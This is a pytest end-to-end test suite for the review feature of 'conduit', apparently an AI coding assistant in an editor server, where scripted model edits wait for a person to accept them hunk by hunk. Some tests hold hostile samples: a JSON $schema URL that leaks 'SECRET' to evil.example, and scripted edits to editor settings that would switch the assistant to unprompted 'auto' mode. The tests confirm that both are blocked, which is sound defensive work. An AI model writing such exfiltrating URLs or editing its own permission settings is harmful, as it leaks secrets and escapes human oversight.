"""Review in a real server: nothing changes before the person accepts, hunk by hunk, and typing is never lost."""

from __future__ import annotations

import asyncio
import sys
from typing import Any

import pytest

from conduit.lsp.client import EditorClient, EditorOptions
from conduit.lsp.wire_client import ClientError
from conduit.workspace.positions import Position, Range
from e2e.harness import Bench, chat, new_session

APP = "import os\n\n\ndef one():\n    return 1\n\n\ndef two():\n    return 2\n"
LIB = "LIMIT = 3\n"


def edit(path: str, old: str, new: str, name: str = "edit_file") -> dict[str, object]:
    return {"call": name, "arguments": {"path": path, "old_text": old, "new_text": new}}


THREE = [
    {
        "when": {"user": "change it", "round": 0},
        "reply": [
            {"text": "Three changes."},
            edit("app.py", "return 1", "return 10"),
            edit("app.py", "return 2", "return 20"),
            edit("lib.py", "LIMIT = 3", "LIMIT = 30"),
        ],
    },
    {"when": {"user": "change it", "round": 1}, "reply": [{"call": "read_file", "arguments": {"path": "app.py"}}]},
    {"when": {"user": "change it", "result": "return 20"}, "reply": [{"text": "I read my own proposal."}]},
]


async def hunks(editor: EditorClient, **params: object) -> list[dict[str, Any]]:
    return (await editor.request("conduit/hunk/list", params))["hunks"]


async def accept(editor: EditorClient, **params: object) -> dict[str, Any]:
    return await editor.request("conduit/hunk/accept", params)


async def lenses(editor: EditorClient, uri: str) -> list[tuple[int, str]]:
    found = await editor.request("textDocument/codeLens", {"textDocument": {"uri": uri}})
    return [(each["range"]["start"]["line"], each["command"]["title"]) for each in found]


async def hints_of(editor: EditorClient, uri: str, number: int) -> list[dict[str, Any]]:
    await editor.wait_for(lambda seen: len(seen.diagnostics.get(uri, [])) == number)
    return editor.seen.diagnostics[uri]


async def proposed(bench: Bench, editor: EditorClient) -> tuple[str, str]:
    """Have three hunks in two files; return the session and the URI of the open one."""
    bench.script(*THREE)
    path = bench.write("app.py", APP)
    bench.write("lib.py", LIB)
    uri = await editor.open(path)
    session = await new_session(editor, bench.root)
    result = await chat(editor, session, "change it")
    assert (result["stopReason"], result.get("error")) == ("end_turn", None)
    listed = (await editor.command("conduit.session.open", session))["messages"]
    assert listed[-1]["text"] == "I read my own proposal."
    return session, uri


async def test_nothing_reaches_a_buffer_or_the_disk_before_it_is_accepted(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, uri = await proposed(bench, editor)
        assert editor.document(uri).text == APP
        assert (bench.root / "lib.py").read_text() == LIB
        assert editor.seen.edits == []
        found = await hunks(editor, sessionId=session)
        assert [(each["name"], each["line"], each["newText"]) for each in found] == [
            ("app.py", 4, "    return 10\n"),
            ("app.py", 8, "    return 20\n"),
            ("lib.py", 0, "LIMIT = 30\n"),
        ]
        updates = [each["update"] for each in editor.seen.updates if each["update"]["sessionUpdate"] == "hunk"]
        assert [each["hunkId"] for each in updates[1]["hunks"]] == [each["hunkId"] for each in found[:2]]
        assert await lenses(editor, uri) == [
            (4, "Accept +1 -1"),
            (4, "Reject"),
            (4, "Why"),
            (4, "Accept all in file (2)"),
            (8, "Accept +1 -1"),
            (8, "Reject"),
            (8, "Why"),
        ]


async def test_one_hunk_is_accepted_one_rejected_and_the_rest_by_turn(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, uri = await proposed(bench, editor)
        first, second, third = await hunks(editor)
        assert (await accept(editor, hunkIds=[first["hunkId"]]))["hunkIds"] == [first["hunkId"]]
        assert editor.document(uri).text == APP.replace("return 1\n", "return 10\n")
        await editor.request("conduit/hunk/reject", {"hunkIds": [second["hunkId"]], "sessionId": session})
        assert [each["hunkId"] for each in await hunks(editor)] == [third["hunkId"]]
        assert (await accept(editor, turnId=third["turnId"]))["hunkIds"] == [third["hunkId"]]
        assert (bench.root / "lib.py").read_text() == "LIMIT = 30\n"
        assert await hunks(editor) == []
        with pytest.raises(ClientError, match="waits"):
            await accept(editor, sessionId=session, hunkIds=[first["hunkId"]])


async def test_the_text_that_a_file_would_have_says_where_its_hunks_are_in_it(bench: Bench) -> None:
    bench.script(
        {
            "when": {"user": "change it", "round": 0},
            "reply": [edit("app.py", "return 1", "x = 1\n    return x"), edit("app.py", "return 2", "return 20")],
        },
        {"reply": [{"text": "Done."}]},
    )
    path = bench.write("app.py", APP)
    async with await bench.start() as editor:
        uri = await editor.open(path)
        await chat(editor, await new_session(editor, bench.root), "change it")
        first, second = await hunks(editor)
        text = await editor.request("conduit/hunk/text", {"uri": uri})
        assert text["before"] == APP
        assert text["after"] == APP.replace("return 1", "x = 1\n    return x").replace("return 2", "return 20")
        assert text["version"] == editor.document(uri).version
        assert text["places"] == [
            {"hunkId": first["hunkId"], "line": 4, "endLine": 6},
            {"hunkId": second["hunkId"], "line": 9, "endLine": 10},
        ]
        await editor.request("conduit/hunk/reject", {"uri": uri})
        with pytest.raises(ClientError, match="No proposed change waits in this file"):
            await editor.request("conduit/hunk/text", {"uri": uri})


async def test_everything_of_a_file_is_one_versioned_edit(bench: Bench) -> None:
    async with await bench.start() as editor:
        _, uri = await proposed(bench, editor)
        await accept(editor, uri=uri)
        assert editor.document(uri).text == APP.replace("return 1", "return 10").replace("return 2", "return 20")
        (sent,) = editor.seen.edits
        (part,) = sent["edit"]["documentChanges"]
        assert part["textDocument"]["version"] is not None
        assert len(part["edits"]) == 2
        assert [each["name"] for each in await hunks(editor)] == ["lib.py"]


async def test_typing_moves_the_hunks_and_a_changed_line_becomes_a_conflict_that_shows_both(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, uri = await proposed(bench, editor)
        await editor.type(uri, "# mine\n", Range(Position(0, 0), Position(0, 0)))
        await editor.type(uri, "    return 2 + x\n", Range(Position(9, 0), Position(10, 0)))
        first, second, _ = await hunks(editor)
        assert (first["line"], first["conflict"]) == (5, False)
        assert second["conflict"] is True
        assert (second["oldText"], second["wasText"], second["newText"]) == (
            "    return 2 + x\n",
            "    return 2\n",
            "    return 20\n",
        )
        decided = await accept(editor, sessionId=session)
        assert decided["left"] == [second["hunkId"]]
        typed = "# mine\n" + APP.replace("return 2\n", "return 2 + x\n").replace("return 1\n", "return 10\n")
        assert editor.document(uri).text == typed
        await accept(editor, hunkIds=[second["hunkId"]])
        assert editor.document(uri).text == typed.replace("return 2 + x\n", "return 20\n")


async def test_hunks_are_there_again_after_a_restart_and_fit_what_was_typed_meanwhile(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, uri = await proposed(bench, editor)
        before = await hunks(editor)
    bench.write("app.py", "# from another program\n" + APP)
    async with await bench.start() as editor:
        uri = await editor.open(bench.root / "app.py")
        after = await hunks(editor)
        assert [each["hunkId"] for each in after] == [each["hunkId"] for each in before]
        assert [each["line"] for each in after] == [5, 9, 0]
        await accept(editor, sessionId=session)
        assert editor.document(uri).text == "# from another program\n" + APP.replace("return 1", "return 10").replace(
            "return 2", "return 20"
        )
        assert (bench.root / "lib.py").read_text() == "LIMIT = 30\n"


async def test_a_hunk_is_regenerated_by_the_model_and_the_others_stay(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, _ = await proposed(bench, editor)
        first, second, third = await hunks(editor)
        bench.script(
            {
                "when": {"user": "does not want this one part", "round": 0},
                "reply": [edit("app.py", "return 1\n", "return 11\n")],
            },
            {"when": {"round": 1}, "reply": [{"text": "Eleven it is."}]},
        )
        params = {"hunkId": first["hunkId"], "sessionId": session, "instruction": "eleven, please"}
        result = await editor.request("conduit/hunk/regenerate", params)
        assert result["stopReason"] == "end_turn"
        found = await hunks(editor)
        assert [(each["newText"], each["turnId"] == result["turnId"]) for each in found] == [
            ("    return 11\n", True),
            ("    return 20\n", False),
            ("LIMIT = 30\n", False),
        ]
        assert found[0]["hunkId"] != first["hunkId"]
        assert [found[1]["hunkId"], found[2]["hunkId"]] == [second["hunkId"], third["hunkId"]]


async def test_an_undo_lets_accepted_hunks_wait_again_and_they_make_the_same_bytes(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, uri = await proposed(bench, editor)
        before = await hunks(editor)
        await accept(editor, sessionId=session)
        accepted = editor.document(uri).text
        await editor.type(uri, "# typed later\n", Range(Position(0, 0), Position(0, 0)))
        await editor.request("conduit/session/undo", {"sessionId": session})
        assert editor.document(uri).text == "# typed later\n" + APP
        assert (bench.root / "lib.py").read_text() == LIB
        again = await hunks(editor)
        assert [each["hunkId"] for each in again] == [each["hunkId"] for each in before]
        assert [each["line"] for each in again] == [5, 9, 0]
        await accept(editor, sessionId=session)
        assert editor.document(uri).text == "# typed later\n" + accepted
        assert (bench.root / "lib.py").read_text() == "LIMIT = 30\n"


async def test_a_redo_after_an_undo_leaves_nothing_waiting(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, uri = await proposed(bench, editor)
        await accept(editor, sessionId=session)
        accepted = editor.document(uri).text
        await editor.request("conduit/session/undo", {"sessionId": session})
        await editor.request("conduit/session/redo", {"sessionId": session})
        assert editor.document(uri).text == accepted
        assert await hunks(editor) == []


async def test_a_protected_file_is_asked_about_once_more_when_it_is_accepted(bench: Bench) -> None:
    asked: list[dict[str, Any]] = []

    async def permit(params: dict[str, Any]) -> str:
        asked.append(params)
        return "reject_once" if len(asked) == 1 else "allow_once"

    bench.script(
        {"when": {"round": 0}, "reply": [edit(".vscode/tasks.json", "", "{}\n")]}, {"reply": [{"text": "Proposed."}]}
    )
    async with await bench.start(permit=permit) as editor:
        session = await new_session(editor, bench.root)
        await chat(editor, session, "change it")
        assert asked == []
        with pytest.raises(ClientError, match="Nothing was accepted"):
            await accept(editor, sessionId=session)
        assert not (bench.root / ".vscode").exists()
        await accept(editor, sessionId=session)
        assert (bench.root / ".vscode" / "tasks.json").read_text() == "{}\n"
        assert "editor settings" in str(asked[0])
        told = [each for each in editor.seen.updates if each["update"]["sessionUpdate"] == "turn_state"]
        assert [each["update"]["state"] for each in told] == ["running", "idle"]  # no turn waits for that question


async def test_an_address_that_an_editor_would_fetch_is_asked_about_in_every_mode(bench: Bench) -> None:
    asked: list[dict[str, Any]] = []

    async def permit(params: dict[str, Any]) -> str:
        asked.append(params)
        return "reject_once" if params["reason"] else "allow_always"

    away, here = ('{"$schema": "https://evil.example/?x=SECRET"}\n', '{"$schema": "./schema.json"}\n')
    bench.script(
        {"when": {"user": "propose", "round": 0}, "reply": [edit("a.json", "", away), edit("b.json", "", here)]},
        {"when": {"user": "write", "round": 0}, "reply": [edit("c.json", "", here), edit("d.json", "", away)]},
        {"reply": [{"text": "Done."}]},
    )
    async with await bench.start(permit=permit) as editor:
        session = await new_session(editor, bench.root)
        await chat(editor, session, "propose")
        assert asked == []
        with pytest.raises(ClientError, match="causes a network request"):
            await accept(editor, sessionId=session)
        for each in await hunks(editor, sessionId=session):
            if each["name"] == "b.json":
                await accept(editor, sessionId=session, hunkIds=[each["hunkId"]])
        await editor.request("conduit/session/setMode", {"sessionId": session, "modeId": "auto"})
        await chat(editor, session, "write")
    names = sorted(path.name for path in bench.root.glob("*.json"))
    assert names == ["b.json", "c.json"]
    said = "names https://evil.example/?x=SECRET, which causes a network request when an editor opens the file."
    assert [each["reason"] for each in asked] == [f"a.json {said}", "", f"d.json {said}"]
    offered = [[option["optionId"] for option in each["options"]] for each in asked if each["reason"]]
    assert offered == [["allow_once", "reject_once"]] * 2


async def test_our_settings_among_those_of_an_editor_are_the_persons(bench: Bench) -> None:
    asked: list[dict[str, Any]] = []

    async def permit(params: dict[str, Any]) -> str:
        asked.append(params)
        return "allow_once"

    name, new = ".vscode/settings.json", '{"conduit.mode": "auto"}\n'
    path = bench.write(name, '{\n  "a.b": 1,\n  "a.c": 2\n}\n')
    bench.script(
        {"when": {"user": "new", "round": 0}, "reply": [edit("team.code-workspace", "", new)]},
        {"when": {"user": "free", "round": 0}, "reply": [edit(name, "{\n", '{\n  "conduit.mode": "auto",\n')]},
        {"when": {"user": "plain", "round": 0}, "reply": [edit(name, "2\n", "3\n")]},
        {"reply": [{"text": "Done."}]},
    )
    async with await bench.start(permit=permit) as editor:
        session = await new_session(editor, bench.root, mode="auto")
        await chat(editor, session, "a new workspace")
        await chat(editor, session, "free yourself of questions")
        assert asked == []
        assert not (bench.root / "team.code-workspace").exists()
        await chat(editor, session, "plain")
        assert len(asked) == 1
        assert path.read_text() == '{\n  "a.b": 1,\n  "a.c": 3\n}\n'
        path.write_text('{\n  "conduit.mode": "ask",\n  "a.b": 1,\n  "a.c": 3\n}\n')  # the person does it
        await editor.request("conduit/session/undo", {"sessionId": session})
        assert path.read_text() == '{\n  "conduit.mode": "ask",\n  "a.b": 1,\n  "a.c": 2\n}\n'


async def test_a_proposal_for_a_file_that_runs_says_so(bench: Bench) -> None:
    bench.script(
        {"when": {"round": 0}, "reply": [edit("conftest.py", "", "x = 1\n"), edit("a.py", "", "x = 1\n")]},
        {"reply": [{"text": "Proposed."}]},
    )
    async with await bench.start() as editor:
        session = await new_session(editor, bench.root)
        await chat(editor, session, "change it")
        notes = {each["name"]: each["note"] for each in await hunks(editor, sessionId=session)}
        assert notes == {"a.py": "", "conftest.py": "runs with the tests"}


async def test_hunks_follow_a_file_that_the_person_renames(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, uri = await proposed(bench, editor)
        await editor.close(uri)
        (bench.root / "app.py").rename(bench.root / "main.py")
        files = [{"oldUri": uri, "newUri": (bench.root / "main.py").as_uri()}]
        await editor.notify("workspace/didRenameFiles", {"files": files})
        await editor.wait_for(lambda seen: [1 for each in seen.updates if each["update"].get("name") == "main.py"])
        assert [each["name"] for each in await hunks(editor, sessionId=session)] == ["lib.py", "main.py", "main.py"]
        await accept(editor, sessionId=session)
        assert "return 10\n" in (bench.root / "main.py").read_text()
        assert not (bench.root / "app.py").exists()


async def test_an_editor_without_lenses_gets_hints_and_commands(bench: Bench) -> None:
    async with await bench.start(options=EditorOptions(conduit=None, code_lens=False)) as editor:
        _, uri = await proposed(bench, editor)
        hints = await hints_of(editor, uri, 2)
        assert [hint["range"]["start"]["line"] for hint in hints] == [4, 8]
        listed = await editor.command("conduit.hunk.list")
        assert len(listed["hunks"]) == 3
        await editor.command("conduit.hunk.accept", {"hunkIds": [hints[0]["code"]]})
        assert editor.document(uri).text == APP.replace("return 1\n", "return 10\n")
        assert len(await hints_of(editor, uri, 1)) == 1


async def test_a_review_document_shows_the_diff(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, _ = await proposed(bench, editor)
        shown = await editor.request("workspace/textDocumentContent", {"uri": f"conduit-review:/{session}.diff"})
        assert "+    return 10\n" in shown["text"]
        assert "+++ b/lib.py" in shown["text"]


async def test_an_editor_without_lenses_gets_the_hints_again_when_it_opens_the_document_again(bench: Bench) -> None:
    async with await bench.start(options=EditorOptions(conduit=None, code_lens=False)) as editor:
        _, uri = await proposed(bench, editor)
        await hints_of(editor, uri, 2)
        await editor.close(uri)
        await hints_of(editor, uri, 0)
        await editor.open(bench.root / "app.py")
        assert [hint["range"]["start"]["line"] for hint in await hints_of(editor, uri, 2)] == [4, 8]


async def test_of_two_hunks_regenerated_at_once_the_second_stays(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, _ = await proposed(bench, editor)
        first, second, third = await hunks(editor)
        bench.script({"when": {"round": 0}, "reply": [{"text": "I think."}, {"hold": True}]})
        asked = [
            asyncio.ensure_future(
                editor.request("conduit/hunk/regenerate", {"hunkId": each["hunkId"], "sessionId": session})
            )
            for each in (first, second)
        ]
        refused, _ = await asyncio.wait(asked, return_when=asyncio.FIRST_COMPLETED, timeout=30)
        assert [type(each.exception()) for each in refused] == [ClientError]
        await editor.wait_for(lambda seen: "I think." in seen.text())
        assert len(await hunks(editor)) == 2
        await editor.request("conduit/session/cancel", {"sessionId": session})
        await asyncio.wait(asked, timeout=30)
        assert third["hunkId"] in [each["hunkId"] for each in await hunks(editor)]


async def test_a_hostile_id_is_answered_in_a_short_sentence(bench: Bench) -> None:
    async with await bench.start() as editor:
        await proposed(bench, editor)
        for method, params in (("reject", {"hunkIds": ["x" * 100_000]}), ("regenerate", {"hunkId": "x" * 100_000})):
            with pytest.raises(ClientError, match="waits") as refused:
                await editor.request(f"conduit/hunk/{method}", params)
            assert len(str(refused.value)) < 300
        assert len(await hunks(editor)) == 3


async def test_what_is_rejected_on_the_command_line_waits_no_more_in_the_editor(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, _ = await proposed(bench, editor)
        first, second, third = await hunks(editor)
        rejecting = await asyncio.create_subprocess_exec(
            *(sys.executable, "-m", "conduit", "review", "reject", third["hunkId"]), cwd=bench.root, env=bench.env
        )
        assert await rejecting.wait() == 0
        assert [each["hunkId"] for each in await hunks(editor)] == [first["hunkId"], second["hunkId"]]
        await accept(editor, sessionId=session)
        assert (bench.root / "lib.py").read_text() == LIB


async def test_what_is_proposed_on_the_command_line_shows_in_the_editor_while_it_runs(bench: Bench) -> None:
    async with await bench.start() as editor:
        session, uri = await proposed(bench, editor)
        present = [each["hunkId"] for each in await hunks(editor)]
        bench.script(
            {"when": {"round": 0}, "reply": [edit("app.py", "import os", "import sys")]}, {"reply": [{"text": "Done."}]}
        )
        command = ("ask", "--mode", "review", "--session", session, "use sys")
        asking = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "conduit", *command, cwd=bench.root, env=bench.env
        )
        assert await asking.wait() == 0
        await editor.wait_for(
            lambda seen: any(
                "import sys\n" in [hunk["newText"] for hunk in each["update"]["hunks"]]
                for each in seen.updates
                if each["update"]["sessionUpdate"] == "hunk"
            )
        )
        listed = await hunks(editor)
        assert sorted(each["hunkId"] for each in listed if each["newText"] != "import sys\n") == sorted(present)
        assert (0, "Accept +1 -1") in await lenses(editor, uri)
        await accept(editor, sessionId=session)
        assert editor.document(uri).text == APP.replace("os", "sys").replace("1\n", "10\n").replace("2\n", "20\n")


async def test_what_one_session_cannot_accept_hinders_no_other_session(bench: Bench) -> None:
    async with await bench.start() as editor:
        first, uri = await proposed(bench, editor)
        bench.script(
            {"when": {"round": 0}, "reply": [edit("app.py", "import os", "import sys")]}, {"reply": [{"text": "Done."}]}
        )
        second = await new_session(editor, bench.root)
        await chat(editor, second, "another one")
        await editor.type(uri, "import re", Range(Position(0, 0), Position(0, 9)))
        (conflict,) = await hunks(editor, sessionId=second)
        assert conflict["conflict"] is True
        done = await editor.command("conduit.hunk.accept", {"uri": uri})
        assert (len(done["hunkIds"]), done["left"]) == (2, [conflict["hunkId"]])
        assert editor.document(uri).text == APP.replace("os", "re").replace("1\n", "10\n").replace("2\n", "20\n")
        assert any("One hunk was left" in each["message"] for each in editor.seen.messages)
        assert first not in [each["sessionId"] for each in await hunks(editor, uri=uri)]
